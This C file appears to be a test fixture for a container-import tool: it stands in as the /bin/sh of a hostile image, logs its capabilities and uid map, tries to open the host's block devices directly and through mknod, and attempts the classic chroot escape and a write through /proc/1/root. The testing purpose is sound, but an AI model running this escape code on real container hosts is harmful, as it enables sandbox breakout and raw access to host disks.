/*
 * The /bin/sh of a hostile image (e2e 33-import-sandbox). sdme-import runs
 * an image's /bin/sh to install packages; this one reports what it may do
 * and tries to reach the host instead:
 *
 *   - its credentials: /proc/self/status (capabilities, NoNewPrivs,
 *     Seccomp) and /proc/self/uid_map;
 *   - every block device the kernel has (/sys/dev/block), opened from
 *     /dev and through a node of its own made with mknod;
 *   - the classic chroot escape (mkdir x; chroot x; chdir .. many times;
 *     chroot .), then a marker at what it takes for the host's root, and
 *     the same marker through /proc/1/root.
 *
 * Every finding is a line "EVIDENCE ..." on stdout and in /sdme-evidence
 * of the tree. Built static by the scenario: cc -static -O2.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

static FILE *evidence;

static void say(const char *fmt, ...)
{
	va_list ap;
	char line[512];

	va_start(ap, fmt);
	vsnprintf(line, sizeof line, fmt, ap);
	va_end(ap);
	printf("EVIDENCE %s\n", line);
	fflush(stdout);
	if (evidence) {
		fprintf(evidence, "%s\n", line);
		fflush(evidence);
	}
}

static void copy_lines(const char *path, const char *prefix, const char *const *keys)
{
	char line[512];
	FILE *f = fopen(path, "r");

	if (!f) {
		say("%s unreadable: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		if (!keys) {
			say("%s %s", prefix, line);
			continue;
		}
		for (const char *const *k = keys; *k; k++)
			if (strncmp(line, *k, strlen(*k)) == 0)
				say("%s %s", prefix, line);
	}
	fclose(f);
}

static void try_block(unsigned maj, unsigned min)
{
	char node[64];
	int fd;

	snprintf(node, sizeof node, "/sdme-blk-%u-%u", maj, min);
	unlink(node);
	if (mknod(node, S_IFBLK | 0600, makedev(maj, min)) != 0) {
		say("block-mknod %u:%u denied: %s", maj, min, strerror(errno));
		return;
	}
	fd = open(node, O_RDONLY);
	if (fd >= 0) {
		say("block-open %u:%u OPENED", maj, min);
		close(fd);
	} else {
		say("block-open %u:%u denied: %s", maj, min, strerror(errno));
	}
	unlink(node);
}

static void block_devices(void)
{
	static const char *const devs[] = { "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop0", NULL };
	struct dirent *e;
	DIR *d;
	int n = 0;

	for (const char *const *p = devs; *p; p++) {
		int fd = open(*p, O_RDONLY);
		if (fd >= 0) {
			say("block-open %s OPENED", *p);
			close(fd);
		}
	}
	d = opendir("/sys/dev/block");
	if (!d) {
		say("/sys/dev/block unreadable: %s", strerror(errno));
		try_block(7, 0); /* loop0 */
		return;
	}
	while ((e = readdir(d)) && n < 16) {
		unsigned maj, min;
		if (sscanf(e->d_name, "%u:%u", &maj, &min) == 2) {
			try_block(maj, min);
			n++;
		}
	}
	closedir(d);
	if (n == 0)
		try_block(7, 0);
}

static void mark(const char *path)
{
	FILE *f = fopen(path, "w");

	if (!f) {
		say("marker %s not written: %s", path, strerror(errno));
		return;
	}
	fputs("written by a hostile image\n", f);
	fclose(f);
	say("marker %s written", path);
}

static void chroot_escape(void)
{
	mkdir("/sdme-x", 0755);
	if (chroot("/sdme-x") != 0) {
		say("chroot denied: %s", strerror(errno));
		return;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0)
		say("second chroot denied: %s", strerror(errno));
	mark("/sdme-escape-marker");
}

int main(void)
{
	static const char *const status_keys[] = { "Uid:", "CapEff:", "CapBnd:", "NoNewPrivs:", "Seccomp:", NULL };

	evidence = fopen("/sdme-evidence", "a");
	copy_lines("/proc/self/status", "status", status_keys);
	copy_lines("/proc/self/uid_map", "uid_map", NULL);
	block_devices();
	mark("/proc/1/root/sdme-escape-marker-proc");
	chroot_escape();
	return 0;
}
